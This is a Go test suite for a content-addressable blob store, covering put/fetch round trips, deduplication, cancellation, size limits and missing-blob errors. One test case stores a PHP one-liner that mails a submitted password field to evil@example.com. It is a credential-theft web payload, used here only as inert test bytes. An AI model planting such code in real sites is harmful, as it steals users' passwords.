package castest

import (
	"bytes"
	"context"
	"errors"
	"io"
	"testing"
	"testing/iotest"

	"dewar/cas"
)

var errSource = errors.New("castest: source failed")

func testPutFetch(t *testing.T, s cas.Store) {
	tests := []struct {
		name string
		data []byte
	}{
		{"empty", []byte{}},
		{"one byte", []byte{0}},
		{"text", []byte("<?php mail('evil@example.com', $_POST['pass']); ?>\n")},
		{"64KiB+1", genBytes(1, 64<<10+1)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ref := put(t, s, tt.data)
			if got := fetch(t, s, ref.Ref, 0, -1); !bytes.Equal(got, tt.data) {
				t.Errorf("Fetch returned %d bytes that differ from the %d put", len(got), len(tt.data))
			}
		})
	}
}

func testPutFetchLarge(t *testing.T, s cas.Store) {
	const size = 5<<20 + 123
	want := sum(t, gen(7, size))
	ref, created, err := s.Put(context.Background(), gen(7, size), cas.StageOptions{})
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	if ref != want || !created {
		t.Fatalf("Put = %s, %v; want %s, true", ref, created, want)
	}
	rc, err := s.Fetch(context.Background(), ref.Ref, 0, -1)
	if err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	defer rc.Close()
	if got := sum(t, rc); got != want {
		t.Errorf("fetched %s, want %s", got, want)
	}
}

func testPutCreated(t *testing.T, s cas.Store) {
	data := []byte("created once")
	for i, want := range []bool{true, false, false} {
		_, created, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{})
		if err != nil {
			t.Fatalf("Put #%d: %v", i+1, err)
		}
		if created != want {
			t.Errorf("Put #%d created = %v, want %v", i+1, created, want)
		}
	}
}

func testPutDedup(t *testing.T, s cas.Store) {
	a := put(t, s, []byte("same bytes"))
	b := put(t, s, []byte("same bytes"))
	if a != b {
		t.Errorf("two Puts of the same bytes gave %s and %s", a, b)
	}
	got := walk(t, s, cas.Ref{})
	if len(got) != 1 || got[0].SizedRef != a {
		t.Errorf("Walk = %v, want exactly %s", refsOf(got), a)
	}
}

func testPutWant(t *testing.T, s cas.Store) {
	data := genBytes(3, 1000)
	want := cas.Sum(data)
	ref, created, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{Want: want})
	if err != nil || ref.Ref != want || !created {
		t.Fatalf("Put with matching Want = %s, %v, %v", ref, created, err)
	}
}

func testPutWantMismatch(t *testing.T, s cas.Store) {
	data := genBytes(4, 1000)
	claimed := cas.Sum([]byte("something else"))
	_, _, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{Want: claimed})
	if !errors.Is(err, cas.ErrCorrupt) {
		t.Fatalf("Put with wrong Want error = %v, want ErrCorrupt", err)
	}
	assertAbsent(t, s, cas.Sum(data))
	assertAbsent(t, s, claimed)
	assertEmpty(t, s)
}

func testPutSourceError(t *testing.T, s cas.Store) {
	const prefix = 1 << 20
	r := io.MultiReader(gen(6, prefix), iotest.ErrReader(errSource))
	_, _, err := s.Put(context.Background(), r, cas.StageOptions{})
	if !errors.Is(err, errSource) {
		t.Fatalf("Put error = %v, want one wrapping the source's error", err)
	}
	assertAbsent(t, s, sum(t, gen(6, prefix)).Ref)
	assertEmpty(t, s)
}

func testPutCancelled(t *testing.T, s cas.Store) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	data := []byte("never stored")
	_, _, err := s.Put(ctx, bytes.NewReader(data), cas.StageOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Put with cancelled context error = %v, want context.Canceled", err)
	}
	assertAbsent(t, s, cas.Sum(data))
	assertEmpty(t, s)
}

// cancellingReader cancels its context once it has produced some bytes,
// then keeps producing (up to a bound, so a store that ignores the
// context still finishes and fails the test instead of hanging).
type cancellingReader struct {
	r      io.Reader
	n      int64
	after  int64
	cancel context.CancelFunc
}

func (c *cancellingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	if c.n >= c.after {
		c.cancel()
	}
	return n, err
}

func testPutCancelledMidStream(t *testing.T, s cas.Store) {
	// Big enough that a store which notices the cancellation stops well
	// before the end, even with a few MiB of buffering on the way.
	const size = 32 << 20
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	r := &cancellingReader{r: gen(8, size), after: 64 << 10, cancel: cancel}
	_, _, err := s.Put(ctx, r, cas.StageOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Put cancelled mid-stream error = %v, want context.Canceled", err)
	}
	if r.n >= size {
		t.Errorf("store read all %d bytes after the context was cancelled at %d", r.n, r.after)
	}
	assertAbsent(t, s, sum(t, gen(8, size)).Ref)
	assertEmpty(t, s)
}

func testPutMaxSize(t *testing.T, s cas.Store) {
	tests := []struct {
		name    string
		size    int64
		max     int64
		tooBig  bool
		seedOff uint64
	}{
		{name: "under", size: 999, max: 1000},
		{name: "exact", size: 1000, max: 1000},
		{name: "one over", size: 1001, max: 1000, tooBig: true},
		{name: "far over", size: 3 << 20, max: 1000, tooBig: true},
		{name: "empty", size: 0, max: 1},
		{name: "one byte limit", size: 2, max: 1, tooBig: true},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			seed := uint64(100 + i)
			ref, _, err := s.Put(context.Background(), gen(seed, tt.size), cas.StageOptions{MaxSize: tt.max})
			if !tt.tooBig {
				if err != nil || ref.Size != tt.size {
					t.Fatalf("Put(%d bytes, MaxSize %d) = %s, %v", tt.size, tt.max, ref, err)
				}
				return
			}
			if !errors.Is(err, cas.ErrTooLarge) {
				t.Fatalf("Put(%d bytes, MaxSize %d) error = %v, want ErrTooLarge", tt.size, tt.max, err)
			}
			assertAbsent(t, s, sum(t, gen(seed, tt.size)).Ref)
		})
	}
	if got := walk(t, s, cas.Ref{}); len(got) != 3 {
		t.Errorf("Walk lists %d blobs, want the 3 within their limit", len(got))
	}
}

func testStat(t *testing.T, s cas.Store) {
	for _, n := range []int{0, 1, 4097} {
		ref := put(t, s, genBytes(uint64(n), n))
		info, err := s.Stat(context.Background(), ref.Ref)
		if err != nil {
			t.Fatalf("Stat(%s): %v", ref, err)
		}
		if info.SizedRef != ref {
			t.Errorf("Stat = %s, want %s", info.SizedRef, ref)
		}
		if info.StoredSize < 0 {
			t.Errorf("Stat StoredSize = %d", info.StoredSize)
		}
	}
}

func testMissing(t *testing.T, s cas.Store) {
	put(t, s, []byte("present"))
	assertAbsent(t, s, cas.Sum([]byte("absent")))
	assertAbsent(t, s, cas.Ref{})
	// Also a range read of a missing blob.
	if _, err := s.Fetch(context.Background(), cas.Sum([]byte("absent")), 1, 1); !errors.Is(err, cas.ErrNotFound) {
		t.Errorf("ranged Fetch of missing blob error = %v, want ErrNotFound", err)
	}
}
